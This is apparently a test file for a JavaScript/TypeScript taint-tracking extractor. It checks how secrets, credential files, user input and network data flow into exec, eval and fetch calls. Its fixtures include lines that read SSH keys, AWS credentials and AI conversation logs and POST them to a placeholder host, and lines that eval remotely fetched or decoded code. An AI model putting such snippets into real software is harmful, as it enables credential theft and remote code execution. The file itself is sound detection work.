// Sources and taint propagation of the JavaScript/TypeScript extractor.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { callAt, jsFacts, taintsOf } from './test-support.js';

test('environment sources: secret names, dynamic names, the whole object, destructuring, Deno and Bun', async () => {
  const f = await jsFacts([
    "const { execSync } = require('child_process');",
    'execSync(process.env.API_KEY); execSync(process.env.HOME); execSync(process.env[name]);',
    "execSync(process.env['GITHUB_TOKEN']); execSync(JSON.stringify(process.env));",
    'const { OPENAI_API_KEY, PATH } = process.env; execSync(OPENAI_API_KEY); execSync(PATH);',
    "execSync(Deno.env.get('DB_PASSWORD')); execSync(Bun.env.SLACK_TOKEN); execSync(Deno.env.get('TZ'));",
    'execSync(process.env.CLAUDE_TOOL_INPUT);',
  ].join('\n'));
  const kinds = f.calls.map((c) => taintsOf(c).join(','));
  assert.deepEqual(kinds, [
    'env@2', '', 'env@2', 'env@3', 'env@3', 'env@4~', '', 'env@5', 'env@5', '', 'conversation@6',
  ]);
});

test('file reads are classified by their constant path parts', async () => {
  const f = await jsFacts([
    "const fs = require('fs'); const os = require('os'); const path = require('path');",
    "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));",
    'const a = await fs.promises.readFile(`${os.homedir()}/.aws/credentials`, "utf8");',
    "const t = fs.readFileSync(path.join(os.homedir(), '.claude', 'projects', 'x.jsonl'));",
    "const c = fs.readFileSync(process.env.APP_CONFIG_PATH);",
    'const s = fs.readFileSync(0, "utf8");',
    "fs.readFile('notes.txt', (err, data) => fetch('https://x.example.com', { method: 'POST', body: data }));",
    "fetch('https://x.example.com', { method: 'POST', body: [k, a, t, c, s].join() });",
  ].join('\n'), 'javascript');
  assert.deepEqual(taintsOf(callAt(f, 'network', 7)), ['file_read@7~']);
  assert.deepEqual(taintsOf(callAt(f, 'network', 8)), ['conversation@4~', 'credential_file@2~', 'credential_file@3~', 'file_read@5~', 'user_input@6~']);
});

test('user input, network input and decoders', async () => {
  const f = await jsFacts([
    "const { exec } = require('child_process'); const readline = require('readline');",
    "process.stdin.on('data', (d) => exec(d));",
    'const rl = readline.createInterface({ input: process.stdin });',
    "rl.question('cmd? ', (answer) => exec(answer)); rl.on('line', (line) => eval(line));",
    "require('https').get('https://x.example.com/c', (res) => { res.on('data', (chunk) => eval(chunk)); });",
    "axios.get('https://x.example.com/c').then(({ data }) => eval(data));",
    "eval(atob(blob)); eval(Buffer.from(s, 'hex').toString()); eval(Buffer.from(s).toString()); eval(decodeURIComponent(s));",
    "eval(require('zlib').inflateSync(buf).toString()); eval(String.fromCharCode(...[101, 118, 97, 108]));",
    'process.argv.slice(2).forEach((a) => exec(a));',
  ].join('\n'));
  assert.deepEqual(taintsOf(callAt(f, 'system', 2)), ['user_input@2~']);
  assert.deepEqual(taintsOf(callAt(f, 'system', 4)), ['user_input@3~']);
  assert.deepEqual(taintsOf(callAt(f, 'eval', 4)), ['user_input@3~']);
  assert.deepEqual(taintsOf(callAt(f, 'eval', 5)), ['network_input@5~']);
  assert.deepEqual(taintsOf(callAt(f, 'eval', 6)), ['network_input@6~']);
  const decoded = f.calls.filter((c) => c.line === 7).map((c) => taintsOf(c).join(','));
  assert.deepEqual(decoded, ['decoded@7', 'decoded@7', '', '']);
  assert.deepEqual(f.calls.filter((c) => c.line === 8).map((c) => taintsOf(c).join(',')), ['decoded@8', 'decoded@8']);
  assert.deepEqual(taintsOf(callAt(f, 'system', 9)), ['user_input@9~']);
});

test('propagation through assignments, templates, +, concat/join, objects, arrays, spread and awaits', async () => {
  const f = await jsFacts([
    'let t = process.env.SECRET_TOKEN;',
    'let u; u = `x${t}`; u += "!";',
    "const o = { nested: { v: u } }; const arr = ['a', ...[o.nested.v]];",
    "const joined = arr.join(' ').concat('z').trim();",
    'const w = await Promise.resolve(joined);',
    'fetch("https://e.example.com", { method: "POST", body: w });',
    'fetch("https://e.example.com", { method: "POST", body: "k=" + process.env.SECRET_TOKEN });',
    'const holder = {}; holder.data = process.env.API_KEY; fetch("https://e.example.com", { body: holder });',
  ].join('\n'));
  assert.deepEqual(taintsOf(callAt(f, 'network', 6)), ['env@1~']);
  assert.deepEqual(taintsOf(callAt(f, 'network', 7)), ['env@7'], 'inline source: not via a variable');
  assert.deepEqual(taintsOf(callAt(f, 'network', 8)), ['env@8~']);
});

test('same-file functions: returned sources, parameters reaching inner sinks, hoisting', async () => {
  const f = await jsFacts([
    "const { execSync } = require('child_process');",
    'run(process.argv[2]);',
    'function run(cmd) { execSync(`git ${cmd}`); }',
    'function secret() { return process.env.API_KEY; }',
    'const wrap = (v) => `[${v}]`;',
    "execSync(wrap(secret()));",
    "execSync(wrap('constant'));",
  ].join('\n'));
  assert.deepEqual(taintsOf(callAt(f, 'system', 3)), ['user_input@2~'], 'the caller taint is recorded at the inner sink');
  assert.deepEqual(taintsOf(callAt(f, 'system', 6)), ['env@4~']);
  assert.deepEqual(taintsOf(callAt(f, 'system', 7)), []);
});

test('authHeaderOnly: tokens only in auth headers, also via a headers variable; not when also in the body', async () => {
  const f = await jsFacts([
    'const token = process.env.GITHUB_TOKEN;',
    "fetch('https://api.github.com/user', { headers: { Authorization: `Bearer ${token}` } });",
    "const headers = { 'X-Api-Key': token, 'Content-Type': 'application/json' };",
    "axios.get('https://api.example.com/x', { headers });",
    "fetch('https://api.example.com/x', { headers: { Authorization: token }, body: JSON.stringify({ token }) });",
    "fetch('https://api.example.com/x', { headers: { 'X-Debug': token } });",
    "function authHeaders() { const h = { Accept: 'application/json' }; if (token) h.Authorization = `Bearer ${token}`; return h; }",
    "fetch('https://api.example.com/x', { headers: { ...authHeaders(), 'User-Agent': 'x' } });",
    "const o = {}; o.payload = token; fetch('https://api.example.com/x', { body: JSON.stringify(o) });",
    "fetch(process.argv[2], { headers: { Authorization: token } });",
  ].join('\n'));
  const auth = f.calls.filter((c) => c.op === 'network').map((c) => c.authHeaderOnly);
  assert.deepEqual(auth, [true, true, false, false, true, false, true], 'judged on the secrets when there are any');
});

test('calibration: non-secret env names and configured paths are not secrets', async () => {
  const f = await jsFacts([
    "const fs = require('fs');",
    "const url = process.env.API_URL; const dir = process.env.DATA_DIR;",
    "const cfg = JSON.parse(fs.readFileSync(process.env.CONFIG_PATH || 'config.json', 'utf8'));",
    "fetch(url, { method: 'POST', body: dir });",
    'fetch(cfg.endpoint);',
  ].join('\n'));
  assert.deepEqual(taintsOf(callAt(f, 'network', 4)), []);
  assert.deepEqual(taintsOf(callAt(f, 'network', 5)), ['file_read@3~']);
});

test('dynamic imports taint what they load', async () => {
  const f = await jsFacts(['const mod = require(process.argv[2]);', 'eval(mod.payload);'].join('\n'));
  assert.deepEqual(taintsOf(callAt(f, 'eval', 2)), ['dynamic_import@1~']);
  assert.deepEqual(taintsOf(callAt(f, 'dynamic_import', 1)), ['user_input@1']);
});
